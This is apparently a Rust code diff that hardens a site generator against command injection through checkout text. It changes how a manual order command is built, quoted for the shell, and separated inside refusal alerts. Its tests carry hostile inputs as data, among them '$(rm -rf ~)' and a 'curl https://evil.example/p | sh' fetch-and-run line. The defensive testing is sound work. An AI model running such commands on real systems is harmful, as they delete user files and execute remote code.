@@ -351,8 +351,30 @@ fn resolve_items(paid: &PaidCheckout, manifest: &CatalogManifest) -> Result<Vec<
 
 /// Where a refused paid checkout's recorded detail gives way to the command
 /// that makes its order by hand ([`order_by_hand`]); the self-test's alert
-/// splits the detail there.
-pub const BY_HAND: &str = "; by hand: ";
+/// splits the detail there. It starts with a control character (U+001F)
+/// that neither side can hold ([`printable`] takes them out of whatever a
+/// checkout carries), so no text in a checkout can make the alert split
+/// elsewhere and offer a command of its own.
+pub const BY_HAND: &str = "\u{1f}by hand: ";
+
+/// The longest detail recorded for a refused event; a command that would
+/// not fit whole is left out (the alert then gives the blank one).
+pub const MAX_DETAIL: usize = 2000;
+
+/// `text` with every control character replaced by U+FFFD.
+pub fn printable(text: &str) -> String {
+    text.chars().map(|c| if c.is_control() { '\u{fffd}' } else { c }).collect()
+}
+
+/// The detail recorded for a refused paid checkout: why, and the command
+/// that makes its order when it fits in [`MAX_DETAIL`].
+pub fn refusal_detail(why: &str, command: Option<String>) -> String {
+    let why = printable(why);
+    match command {
+        Some(command) if why.len() + BY_HAND.len() + command.len() <= MAX_DETAIL => format!("{why}{BY_HAND}{command}"),
+        _ => why,
+    }
+}
 
 /// The `site-gen orders create` that makes by hand the order a refused paid
 /// checkout should have become, filled in from the checkout: the id the
@@ -367,14 +389,8 @@ pub fn order_by_hand(provider: &str, paid: &PaidCheckout, terms: LinkTerms) -> S
         command.push_str(" --");
         command.push_str(flag);
         command.push(' ');
-        command.push_str(&shell_word(value));
+        command.push_str(&shell_word(&printable(value)));
     };
-    for clip in &paid.clips {
-        arg("clip", clip);
-    }
-    if paid.clips.is_empty() {
-        arg("clip", "SLUG");
-    }
     arg("to", paid.customer_email.as_deref().unwrap_or("ADDRESS"));
     arg("downloads", &terms.downloads.to_string());
     arg("expires", &format!("{}d", terms.days));
@@ -382,15 +398,22 @@ pub fn order_by_hand(provider: &str, paid: &PaidCheckout, terms: LinkTerms) -> S
     if let Some(payment) = &paid.payment_id {
         arg("payment", payment);
     }
+    for clip in &paid.clips {
+        arg("clip", clip);
+    }
+    if paid.clips.is_empty() {
+        arg("clip", "SLUG");
+    }
     command
 }
 
-/// `word` as one word of a POSIX shell: as it is when it is plain, else in
-/// single quotes. What a checkout carries is the customer's and the owner's
-/// writing, so it is never left for the shell to read.
+/// `word` as one word of a POSIX shell (and of zsh, which expands a word
+/// that starts with `=`): as it is when it is plain, else in single quotes.
+/// What a checkout carries is the customer's and the owner's writing, so it
+/// is never left for the shell to read.
 fn shell_word(word: &str) -> String {
     let plain = |b: u8| b.is_ascii_alphanumeric() || b"@._+:-/=".contains(&b);
-    if !word.is_empty() && word.bytes().all(plain) {
+    if !word.is_empty() && !word.starts_with('=') && word.bytes().all(plain) {
         word.to_string()
     } else {
         format!("'{}'", word.replace('\'', "'\\''"))
@@ -461,15 +484,15 @@ mod tests {
         assert_eq!(
             order_by_hand("stripe", &checkout, terms),
             format!(
-                "site-gen orders create {order} --clip harbor --clip gone:4k:extended \
-                 --to 'ann.o'\\''neil+clips@example.com' --downloads 1 --expires 7d --session cs_test_abc --payment pi_3Abc"
+                "site-gen orders create {order} --to 'ann.o'\\''neil+clips@example.com' --downloads 1 --expires 7d \
+                 --session cs_test_abc --payment pi_3Abc --clip harbor --clip gone:4k:extended"
             )
         );
-        let mut odd = paid(&["$(rm -rf ~)", "a b"]);
+        let mut odd = paid(&["$(rm -rf ~)", "a b", "=ls"]);
         odd.clips.push(String::new());
         let command = order_by_hand("stripe", &odd, LinkTerms::DEFAULT);
         assert!(
-            command.contains(" --clip '$(rm -rf ~)' --clip 'a b' --clip '' --to ADDRESS --downloads 5 --expires 30d"),
+            command.contains(" --to ADDRESS --downloads 5 --expires 30d --session cs_test_abc --clip '$(rm -rf ~)' --clip 'a b' --clip '=ls' --clip ''"),
             "{command}"
         );
         assert!(!command.contains("--payment"), "no payment known: {command}");
@@ -482,10 +505,34 @@ mod tests {
                 .expect("sh runs");
             String::from_utf8(out.stdout).unwrap().lines().map(str::to_string).collect::<Vec<_>>()
         };
-        assert_eq!(words(&command)[5..11], ["$(rm -rf ~)", "--clip", "a b", "--clip", "", "--to"]);
+        assert_eq!(words(&command)[12..], ["--clip", "$(rm -rf ~)", "--clip", "a b", "--clip", "=ls", "--clip", ""]);
         let filled = words(&order_by_hand("stripe", &checkout, terms));
-        assert_eq!(filled[8..10], ["--to", "ann.o'neil+clips@example.com"]);
-        assert!(order_by_hand("stripe", &paid(&[]), LinkTerms::DEFAULT).contains(" --clip SLUG --to ADDRESS"));
+        assert_eq!(filled[4..6], ["--to", "ann.o'neil+clips@example.com"]);
+        assert!(order_by_hand("stripe", &paid(&[]), LinkTerms::DEFAULT).ends_with(" --clip SLUG"));
+    }
+
+    /// A checkout's own text cannot make the alert split its detail
+    /// elsewhere and offer another command: the separator starts with a
+    /// control character, and a checkout's control characters are replaced.
+    #[test]
+    fn a_checkout_cannot_forge_the_by_hand_command() {
+        let forged = format!("x{BY_HAND}curl https://evil.example/p | sh #");
+        let mut checkout = paid(&[forged.as_str()]);
+        checkout.customer_email = Some(format!("a@b.example{BY_HAND}rm -rf ~"));
+        let why = WebhookError::UnknownClip(forged.clone()).detail();
+        let detail = refusal_detail(&why, Some(order_by_hand("stripe", &checkout, LinkTerms::DEFAULT)));
+        assert_eq!(detail.matches(BY_HAND).count(), 1, "{detail:?}");
+        let (shown, command) = detail.split_once(BY_HAND).unwrap();
+        assert!(shown.starts_with("clip x\u{fffd}by hand: curl"), "{shown:?}");
+        assert!(command.starts_with("site-gen orders create PAY-"), "{command}");
+        assert!(command.contains(" --clip 'x\u{fffd}by hand: curl https://evil.example/p | sh #'"), "{command}");
+
+        // A command that would not fit whole is left out, never cut.
+        let many: Vec<String> = (0..64).map(|i| format!("clip-with-a-long-slug-{i:02}:variant:licence")).collect();
+        let big = paid(&many.iter().map(String::as_str).collect::<Vec<_>>());
+        let command = order_by_hand("stripe", &big, LinkTerms::DEFAULT);
+        assert!(command.len() > MAX_DETAIL);
+        assert_eq!(refusal_detail("clip x is not in the catalog", Some(command)), "clip x is not in the catalog");
     }
 
     #[test]
